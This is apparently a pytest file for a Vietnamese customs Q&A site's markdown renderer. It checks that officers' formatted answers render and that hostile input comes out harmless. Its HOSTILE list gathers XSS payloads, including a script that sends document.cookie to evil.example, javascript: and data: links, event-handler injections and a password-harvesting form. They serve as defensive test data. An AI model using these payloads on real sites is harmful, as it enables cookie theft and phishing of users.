"""Staff's long texts: a small formatting renders, plain text reads as before, and nothing a
hostile author types (or pastes) can run in a reader's browser."""

import re
from html.parser import HTMLParser

import pytest

from ketnoi.lib.richtext import LINK_REL, Link, clean, render

# --- what officers write ---------------------------------------------------------------------------

ANSWER = """Kính gửi Công ty TNHH Thương mại Hòa Bình Xanh,

Về vướng mắc của Công ty, Chi cục Hải quan Khu công nghệ cao trả lời như sau:
1. Căn cứ **Điều 10 Thông tư 38/2015/TT-BTC**, hồ sơ hải quan gồm:
   - tờ khai hàng hóa nhập khẩu;
   - hóa đơn thương mại.
2. Thời hạn nộp là *30 ngày* kể từ ngày đăng ký tờ khai.

Xem thêm tại [Cổng thông tin Hải quan](https://www.customs.gov.vn/index.jsp?pageId=4&cid=30).
Liên hệ: [hotro@haiquan.example.vn](mailto:hotro@haiquan.example.vn)"""


def test_it_renders_an_officers_numbered_answer_with_bold_legal_references_and_links():
    html = render(ANSWER)
    assert html.startswith("<p>Kính gửi Công ty TNHH Thương mại Hòa Bình Xanh,</p>")
    assert "<ol>\n<li>Căn cứ <strong>Điều 10 Thông tư 38/2015/TT-BTC</strong>, hồ sơ hải quan gồm:" in html
    assert "<ul>\n<li>tờ khai hàng hóa nhập khẩu;</li>\n<li>hóa đơn thương mại.</li>\n</ul>" in html
    assert "<em>30 ngày</em>" in html
    assert (f'<a href="https://www.customs.gov.vn/index.jsp?pageId=4&amp;cid=30" rel="{LINK_REL}">'
            "Cổng thông tin Hải quan</a>") in html
    assert f'<a href="mailto:hotro@haiquan.example.vn" rel="{LINK_REL}">' in html


def test_plain_text_keeps_its_paragraphs_and_line_breaks():
    text = "Kính gửi Công ty,\r\nHải quan trả lời:\r\n\r\nĐồng ý.\n\n\n"
    assert render(text) == "<p>Kính gửi Công ty,<br>\nHải quan trả lời:</p>\n<p>Đồng ý.</p>\n"


@pytest.mark.parametrize("text", [
    "# Không phải tiêu đề",
    "Thông tư 38\n---",            # would be a heading under CommonMark
    "    thụt lề bốn dấu cách",    # would be a code block
    "> trích dẫn",
    "***",
    "[1]: Điều 5 Nghị định 08/2015/NĐ-CP",  # would vanish as a link reference definition
    "`mã HS 8471.30.20`",
    "&lt;b&gt; và &amp;",
])
def test_rules_a_civil_servants_plain_text_would_trip_over_are_off(text):
    html = render(text)
    assert html.startswith("<p>") and html.count("<p>") == 1
    assert not re.search(r"<(h\d|pre|code|blockquote|hr)\b", html)


def test_a_typed_entity_shows_as_typed():
    assert render("&lt;b&gt; và &amp;") == "<p>&amp;lt;b&amp;gt; và &amp;amp;</p>\n"


def test_a_table_renders_without_its_alignment_styles():
    html = render("| Dịch vụ | Giá |\n|---|--:|\n| Lưu kho | 1.250.000 ₫ |")
    assert "<table>" in html and "<td>1.250.000 ₫</td>" in html
    assert "style" not in html


def test_nothing_becomes_nothing():
    assert render("") == render(None) == render(" \n\t") == ""


def test_a_linker_links_spans_outside_the_authors_own_links():
    def linker(run):
        start = run.find("38/2015/TT-BTC")
        return [Link(start, start + 14, "/hoi-dap/van-ban/7/", "Quy định", "citation")] if start >= 0 else []

    html = render("Theo **38/2015/TT-BTC** và [38/2015/TT-BTC](https://vbpl.example.vn/38)", linker=linker)
    assert ('<strong><a href="/hoi-dap/van-ban/7/" title="Quy định" class="citation" '
            f'rel="{LINK_REL}">38/2015/TT-BTC</a></strong>') in html
    assert html.count("<a ") == 2


def test_a_linker_cannot_bring_in_a_class_or_scheme_outside_the_allow_list():
    html = render("xem đây", linker=lambda run: [Link(0, 3, "javascript:alert(1)", "", "citation evil")])
    assert "javascript" not in html and "evil" not in html


# --- what an attacker writes -------------------------------------------------------------------------

HOSTILE = [
    "<script>alert('xss')</script>",
    "Hàng hóa <script>document.location='https://evil.example/?c='+document.cookie</script> nhập khẩu",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<a href="javascript:alert(1)">Thông tư 38</a>',
    "[bấm vào đây](javascript:alert(document.cookie))",
    "[bấm](JaVaScRiPt:alert(1))",
    "[bấm](java\tscript:alert(1))",
    "[bấm](vbscript:msgbox(1))",
    "[bấm](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[bấm](file:///etc/passwd)",
    "![ảnh](https://evil.example/track.png)",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<style>body{display:none}</style><div style="position:fixed">x</div>',
    "<b><i>chưa đóng <u>thẻ <p>lồng nhau",
    "<<script>script>alert(1)<</script>/script>",
    '<a href="https://ok.example" onclick="alert(1)">ok</a>',
    "**<img src=x onerror=alert(1)>**",
    "[x](https://ok.example \"title\" onmouseover=alert(1))",
    "[x](https://ok.example\"onmouseover=\"alert(1))",
    "<!-- <script>alert(1)</script> -->",
    '<form action="https://evil.example"><input name=password></form>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "Công ty Cổ phần Kho vận Tân Cát Long <script>alert('Hải quan')</script> xin hỏi",
    "Trả lời: <a href=\"https://evil.example\" target=_blank>Thông tư 39/2018/TT-BTC</a>",
    "\u202eplh.exe\u202c <script>alert(1)</script>",
    "- [x](javascript:alert(1))\n- <img src=x onerror=alert(1)>\n  1. <svg onload=alert(1)>",
]


class Elements(HTMLParser):
    """The elements of some HTML as a browser's parser sees them: (tag, {attribute: value})."""

    def __init__(self, html):
        super().__init__(convert_charrefs=True)
        self.found = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    handle_startendtag = handle_starttag


ALLOWED_TAGS = {"p", "br", "strong", "em", "ul", "ol", "li", "a", "table", "thead", "tbody", "tr", "th", "td"}


@pytest.mark.parametrize("text", HOSTILE)
def test_it_renders_hostile_input_harmless(text):
    html = render(text)
    for tag, attributes in Elements(html).found:
        assert tag in ALLOWED_TAGS, html
        assert set(attributes) <= {"href", "title", "class", "rel", "start"}, html
        href = attributes.get("href")
        if href is not None:
            assert href.startswith(("https://", "http://", "mailto:", "/")), html
        if tag == "a":
            assert attributes["rel"] == LINK_REL
    assert clean(html) == html  # already as clean as nh3 makes it


@pytest.mark.parametrize("text", HOSTILE)
def test_what_was_typed_as_html_is_shown_as_text(text):
    if "<" in text and "<!--" not in text:
        assert "&lt;" in render(text)


def test_it_shows_vietnamese_text_around_a_script_tag_intact():
    html = render("Công ty Cổ phần Kho vận Tân Cát Long <script>alert('Hải quan')</script> xin hỏi")
    assert html == ("<p>Công ty Cổ phần Kho vận Tân Cát Long &lt;script&gt;alert('Hải quan')&lt;/script&gt; "
                    "xin hỏi</p>\n")


def test_html_from_elsewhere_is_cleaned_too():
    assert clean('<p onclick="x()">a<script>alert(1)</script><a href="javascript:x">b</a></p>') == f'<p>a<a rel="{LINK_REL}">b</a></p>'
    assert clean("<b>x</b><div>y</div>") == "xy"


def test_huge_and_deeply_nested_input_renders():
    assert render("Thủ tục hải quan. " * 20_000).count("<p>") == 1
    nested = render("- " * 5_000 + "<script>x")  # past markdown-it's nesting limit the rest is dropped
    assert nested.startswith("<ul>") and "<script" not in nested
    assert render("[" * 10_000 + "a" + "]" * 10_000).startswith("<p>[[[")


def test_bad_unicode_does_not_break_it():
    html = render("Hải quan\x00 \ud800 \ufeff\u200b chữ")
    assert "Hải quan" in html and "\x00" not in html
